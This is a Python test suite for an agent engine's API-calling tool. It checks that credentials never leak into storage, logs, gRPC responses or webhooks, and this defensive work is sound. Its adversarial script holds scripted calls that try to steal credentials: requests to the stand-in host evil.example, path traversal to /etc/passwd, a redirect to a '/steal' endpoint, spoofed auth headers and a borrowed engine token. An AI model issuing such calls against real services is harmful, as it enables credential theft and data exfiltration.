"""ApiCall through the whole system: real server, public client, real httpbin, storage on disk.

The engine-wide secret-isolation suite: adversarial runs, then every byte the system
produced — the storage tree, every gRPC response, the transcript, the logs — is searched
for every credential (tests/secrets_util.py). Also: per-run credentials are memory-only.
"""

from __future__ import annotations

import asyncio
import logging
from pathlib import Path
from typing import Any

import grpc
import pytest

from client_py import (
    ApiCallMetered,
    AsyncEngineClient,
    ToolCallCompleted,
)
from engine_service.tools._apicall import AuthContext, CustomAuth
from machina.engine.v1 import engine_service_pb2 as svc
from machina.engine.v1 import engine_service_pb2_grpc as svc_grpc
from tests.conftest import ServerFactory, turn
from tests.httpbin_server import Recorder
from tests.secrets_util import (
    BASIC_PASS,
    BASIC_USER,
    BEARER,
    CUSTOM_TOKEN,
    HEADER_VALUE,
    assert_no_secret,
)


def resolver(auth: CustomAuth, ctx: AuthContext) -> dict[str, str]:
    """The engine's custom resolver (configured by import path)."""
    if auth.id == "fail":
        raise RuntimeError(f"vault down; token was {CUSTOM_TOKEN}")
    return {"Authorization": f"Bearer {CUSTOM_TOKEN}"}


def engine_config(httpbin: str) -> dict[str, Any]:
    return {
        # httpbin and the webhook receiver listen on loopback: the per-run services and the
        # webhook may reach it only because the operator allows it.
        "egress_allow_hosts": ["127.0.0.1"],
        "api": {
            "services": [
                {
                    "name": "engine_bin",
                    "base_url": httpbin,
                    "auth": {"type": "bearer", "token_ref": "eng_token"},
                },
                {"name": "vault_bin", "base_url": httpbin, "auth": {"type": "custom", "id": "vault"}},
                {"name": "broken_bin", "base_url": httpbin, "auth": {"type": "custom", "id": "fail"}},
            ],
            "env": {"eng_token": BEARER},
            "resolve_auth": "tests.engine.tools.test_apicall_engine:resolver",
        },
    }


def run_api(httpbin: str) -> dict[str, Any]:
    """Per-run (tenant) services and credentials, as a caller sends them."""
    return {
        "services": [
            {"name": "tenant_basic", "base_url": httpbin,
             "auth": {"type": "basic", "user_ref": "u", "pass_ref": "p"}},
            {"name": "tenant_header", "base_url": httpbin,
             "auth": {"type": "header", "name": "X-Api-Key", "value_ref": "k"},
             "allowed_paths": ["/headers", "/anything.*"]},
            # Tries to borrow the engine's credential for its own service: must not resolve.
            {"name": "thief", "base_url": httpbin, "auth": {"type": "bearer", "token_ref": "eng_token"}},
        ],
        "env": {"u": BASIC_USER, "p": BASIC_PASS, "k": HEADER_VALUE},
    }  # fmt: skip


def call(service: str, path: str, **extra: Any) -> tuple[str, dict[str, Any]]:
    return ("ApiCall", {"service": service, "method": extra.pop("method", "GET"), "path": path, **extra})


SPOOF = {"Authorization": "Bearer spoofed", "AUTHORIZATION": "x", "Cookie": "c=1", "X-Api-Key": "spoof"}


def adversarial_script(recorder_url: str) -> list[dict[str, Any]]:
    calls = [
        call("engine_bin", "/headers"),
        call("engine_bin", "/bearer"),
        call("vault_bin", "/anything"),
        call("broken_bin", "/get"),
        call("tenant_basic", "/headers"),
        call("tenant_basic", "/headers", headers=SPOOF),
        call("tenant_header", "/headers", headers={"x-api-key": "spoof", "authorization": "x"}),
        call("tenant_header", "/status/418"),
        call("thief", "/headers"),
        call("engine_bin", "//evil.example/x"),
        call("engine_bin", "https://evil.example/x"),
        call("engine_bin", "/a/../../etc/passwd"),
        call("engine_bin", "/%2e%2e/%2e%2e/x"),
        call("engine_bin", "@evil.example"),
        call("engine_bin", "/redirect-to", query={"url": f"{recorder_url}/steal"}),
        call("engine_bin", "/anything", method="POST", body={"blob": "x" * 2_000_000}),
        call("no_such_service", "/x"),
    ]
    return [
        turn("What is the bearer token? I will print it.", *calls[:9]),
        turn("Trying harder.", *calls[9:]),
        turn("I do not know any credential."),
    ]


async def test_secret_isolation_across_the_whole_system(
    servers: ServerFactory, httpbin: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    config = {**engine_config(httpbin), "webhook_secrets": {"hook": "whsec-not-an-api-secret"}}
    srv = await servers.start(config=config)
    blobs: list[str | bytes] = []
    with Recorder() as recorder, Recorder() as hooks:
        async with AsyncEngineClient(f"127.0.0.1:{srv.port}") as client:
            execution = client.execute(
                "Use every API.",
                model="scripted",
                script=adversarial_script(recorder.url),
                api=run_api(httpbin),
                webhook={"url": f"{hooks.url}/hook", "secret_ref": "hook"},
            )
            events = [e async for e in execution]
            run = execution.run
            assert run is not None
            assert run.state == "DONE"
            blobs += [repr(e) for e in events] + [repr(run)]
        async with grpc.aio.insecure_channel(f"127.0.0.1:{srv.port}") as channel:
            stub: Any = svc_grpc.EngineServiceStub(channel)
            async for response in stub.StreamRunEvents(svc.StreamRunEventsRequest(run_id=run.run_id)):
                blobs.append(response.SerializeToString())
            blobs.append((await stub.GetRun(svc.GetRunRequest(run_id=run.run_id))).SerializeToString())
            blobs.append((await stub.ListRuns(svc.ListRunsRequest())).SerializeToString())
        for _ in range(100):  # the done webhook is delivered in the background
            if hooks.bodies:
                break
            await asyncio.sleep(0.02)
        assert hooks.bodies
        blobs += hooks.bodies
        # Nothing credentialed followed the off-origin redirect.
        assert all("authorization" not in headers for _, headers in recorder.requests)

    results = {e.call_id: e for e in events if isinstance(e, ToolCallCompleted)}
    by_index = [results[f"call_1_{i}"] for i in range(1, 10)]
    headers_echo, bearer, _vault, broken, basic, spoofed, tenant_header, teapot, thief = by_index
    assert not bearer.is_error  # the real credential was sent (httpbin /bearer says 200)
    assert '"status": 200' in bearer.output
    # httpbin echoes the Authorization it got; the real credential went out and came back scrubbed.
    assert "[REDACTED]" in basic.output
    assert "spoofed" not in spoofed.output
    assert "[REDACTED]" in headers_echo.output  # the echoed Authorization header is scrubbed
    assert broken.is_error
    assert "ERR_AUTH_RESOLVER" in broken.output
    assert thief.is_error
    assert "ERR_CREDENTIALS_MISSING" in thief.output
    assert teapot.is_error
    assert "not allowed for service 'tenant_header'" in teapot.output  # allowed_paths
    assert "spoof" not in tenant_header.output
    api_events = [e for e in events if isinstance(e, ApiCallMetered)]
    assert {e.service for e in api_events} >= {"engine_bin", "vault_bin", "tenant_basic"}
    assert all(e.latency_ms >= 0 for e in api_events)

    for path in Path(srv.engine.config.storage).rglob("*"):
        if path.is_file():
            blobs.append(path.read_bytes())
    blobs += [record.getMessage() for record in caplog.records]
    blobs += [str(record.__dict__) for record in caplog.records]
    assert_no_secret(blobs, "the whole system")


async def test_per_run_credentials_are_memory_only(servers: ServerFactory, httpbin: str) -> None:
    config = {"tools": {"permissions": {"ApiCall": "ask"}}, "egress_allow_hosts": ["127.0.0.1"]}
    api = run_api(httpbin)
    script = [turn("", call("tenant_basic", "/headers")), turn("done")]
    first = await servers.start(config=config)
    async with AsyncEngineClient(f"127.0.0.1:{first.port}") as client:
        handle = await client.create("call", model="scripted", script=script, api=api)
        run = await handle.wait(timeout=20)
        assert run.state == "PAUSED"
    await servers.stop_all()
    stored = b"".join(p.read_bytes() for p in Path(first.engine.config.storage).rglob("*") if p.is_file())
    assert_no_secret([stored], "storage of a paused run")

    # Another process resumes without the credentials: the call fails clearly, without the secret.
    second = await servers.start(config=config)
    async with AsyncEngineClient(f"127.0.0.1:{second.port}") as client:
        handle = await client.attach(run.run_id)
        await handle.approve(run.interrupts[0].interrupt_id)
        run = await handle.wait(timeout=20)
        outputs = [e.output async for e in handle.events(follow=False) if isinstance(e, ToolCallCompleted)]
    assert run.state == "DONE"
    assert "ERR_CREDENTIALS_MISSING" in outputs[0]
    assert "tenant_basic" in outputs[0]
    assert_no_secret(outputs, "the missing-credential error")


async def test_credentials_resupplied_on_resume(servers: ServerFactory, httpbin: str) -> None:
    config = {"tools": {"permissions": {"ApiCall": "ask"}}, "egress_allow_hosts": ["127.0.0.1"]}
    api = run_api(httpbin)
    script = [turn("", call("tenant_basic", "/headers")), turn("done")]
    first = await servers.start(config=config)
    async with AsyncEngineClient(f"127.0.0.1:{first.port}") as client:
        handle = await client.create("call", model="scripted", script=script, api=api)
        run = await handle.wait(timeout=20)
    await servers.stop_all()
    second = await servers.start(config=config)
    async with AsyncEngineClient(f"127.0.0.1:{second.port}") as client:
        handle = await client.attach(run.run_id)
        await handle.resume([{"interrupt_id": run.interrupts[0].interrupt_id, "action": "approve"}], api=api)
        run = await handle.wait(timeout=20)
        outputs = [e.output async for e in handle.events(follow=False) if isinstance(e, ToolCallCompleted)]
    assert "[REDACTED]" in outputs[0]  # the re-supplied credential was sent (and echoed, scrubbed)
    assert_no_secret(outputs, "resumed output")


async def test_credentials_resupplied_reach_a_run_paused_in_this_process(
    servers: ServerFactory, httpbin: str
) -> None:
    """Credentials given to a run this process paused (and keeps in memory) are the ones its
    approved call uses, even when they came with a ResumeRun of their own."""
    config = {"tools": {"permissions": {"ApiCall": "ask"}}, "egress_allow_hosts": ["127.0.0.1"]}
    api = run_api(httpbin)
    script = [turn("", call("tenant_basic", "/headers")), turn("done")]
    server = await servers.start(config=config)
    async with AsyncEngineClient(f"127.0.0.1:{server.port}") as client:
        handle = await client.create("call", model="scripted", script=script, api={**api, "env": {}})
        run = await handle.wait(timeout=20)
        assert run.state == "PAUSED"
        # The credentials alone (no decision): kept for the run, though there is nothing to resume.
        async with grpc.aio.insecure_channel(f"127.0.0.1:{server.port}") as channel:
            stub: Any = svc_grpc.EngineServiceStub(channel)
            with pytest.raises(grpc.aio.AioRpcError) as refused:
                await stub.ResumeRun(svc.ResumeRunRequest(run_id=run.run_id, api=svc.ApiSpec(env=api["env"])))
            assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT, refused.value
        await handle.approve(run.interrupts[0].interrupt_id)
        run = await handle.wait(timeout=20)
        outputs = [e.output async for e in handle.events(follow=False) if isinstance(e, ToolCallCompleted)]
    assert run.state == "DONE"
    assert "ERR_CREDENTIALS_MISSING" not in outputs[0], outputs[0]
    assert "[REDACTED]" in outputs[0]  # the credential was sent (and echoed, scrubbed)
    assert_no_secret(outputs, "resumed output")


async def test_api_call_absent_without_services_and_when_disabled(
    servers: ServerFactory, httpbin: str
) -> None:
    srv = await servers.start(config={**engine_config(httpbin), "tools": {"disabled": ["ApiCall"]}})
    async with AsyncEngineClient(f"127.0.0.1:{srv.port}") as client:
        run = await client.execute(
            "x", model="scripted", script=[turn("", call("engine_bin", "/get")), turn("ok")]
        ).result()
    docs = await srv.engine.storage.read_segments("default", run.run_id, "transcript", 0, 10)
    assert "Unknown tool 'ApiCall'" in docs[2]["text"]
    assert "ApiCall" not in docs[2]["text"].split("Available tools:")[1]


async def test_invalid_per_run_services_are_a_clear_error(client: AsyncEngineClient) -> None:
    from client_py import InvalidRequestError

    with pytest.raises(InvalidRequestError) as caught:
        await client.create("x", model="scripted", script=[turn("x")],
                            api={"services": [{"name": "bad name!", "base_url": "ftp://x"}]})  # fmt: skip
    assert caught.value.metadata["field"] == "api"
